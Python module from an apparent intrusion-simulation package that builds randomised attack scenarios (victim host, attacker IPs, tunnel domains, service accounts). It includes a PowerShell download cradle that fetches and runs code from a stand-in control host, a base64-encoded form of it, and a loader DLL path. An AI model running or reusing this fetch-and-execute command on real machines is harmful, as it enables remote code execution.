"""Who plays in an intrusion: the victim, the servers, and the intruder's own names and addresses.

The cast of the demo is the default; others are drawn, so that a measure is not one of a single story.
"""

import base64
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

from phalanx.core import Rng
from phalanx.demo._company import (
    ADMIN_STATIONS,
    APP_SERVER,
    CONTROLLERS,
    FILE_SERVER,
    LINUX_SERVERS,
    MAIL_SERVER,
    WEB_SERVER,
    WORKSTATIONS,
    Host,
)

_NAMES: Final = (
    "updates.cdn-sync",
    "img.fast-tiles",
    "api.metrics-hub",
    "cdn.font-cache",
    "go.short-links",
    "sync.doc-view",
)
_TUNNELS: Final = ("t.data-relay.example", "q.edge-stats.example", "r.name-probe.example")
_ACCOUNTS: Final = ("svc-backup", "svc-sql", "svc-deploy", "svc-scan", "svc-report")


@dataclass(frozen=True, slots=True)
class Cast:
    """The people and machines of one intrusion."""

    victim: Host = WORKSTATIONS[6]
    file_server: Host = FILE_SERVER
    app_server: Host = APP_SERVER
    controller: Host = CONTROLLERS[0]
    web_server: Host = WEB_SERVER
    control_name: str = "updates.cdn-sync.example"
    control_ip: str = "203.0.113.66"
    guesser_ip: str = "203.0.113.99"
    drop_ip: str = "203.0.113.120"
    tunnel_domain: str = "t.data-relay.example"
    account: str = "svc-backup"

    @property
    def cradle(self) -> str:
        """What the victim's PowerShell is made to run."""
        return f"IEX (New-Object Net.WebClient).DownloadString('http://{self.control_name}/a')"

    @property
    def encoded(self) -> str:
        """The same as PowerShell takes it on its command line."""
        return base64.b64encode(self.cradle.encode("utf-16-le")).decode()

    @property
    def loader(self) -> str:
        """Where it is left."""
        return f"C:\\Users\\{self.victim.user}\\AppData\\Roaming\\sync\\sync.dll"


VICTIM: Final = Cast().victim


def drawn(rng: Rng, *, apart_from: Cast | None = None) -> Cast:
    """A cast by chance; what is the intruder's own there is not what it is in ``apart_from``, nor is the victim."""
    other = apart_from
    taken = {other.control_ip, other.guesser_ip, other.drop_ip} if other else set()
    numbers = [number for number in range(60, 250) if f"203.0.113.{number}" not in taken]
    control, guesser, drop = rng.sample(numbers, 3)
    file_server, app_server = rng.sample([FILE_SERVER, APP_SERVER, MAIL_SERVER], 2)
    victims = [host for host in WORKSTATIONS if host not in ADMIN_STATIONS and not (other and host == other.victim)]
    return Cast(
        victim=rng.choice(victims), file_server=file_server, app_server=app_server,
        controller=rng.choice(CONTROLLERS), web_server=rng.choice(LINUX_SERVERS),
        control_name=_other_than(rng, _NAMES, other.control_name if other else ""),
        control_ip=f"203.0.113.{control}", guesser_ip=f"203.0.113.{guesser}", drop_ip=f"203.0.113.{drop}",
        tunnel_domain=_other_than(rng, _TUNNELS, other.tunnel_domain if other else ""),
        account=_other_than(rng, _ACCOUNTS, other.account if other else ""),
    )  # fmt: skip


def _other_than(rng: Rng, names: Sequence[str], taken: str) -> str:
    return rng.choice([name for name in names if name != taken])
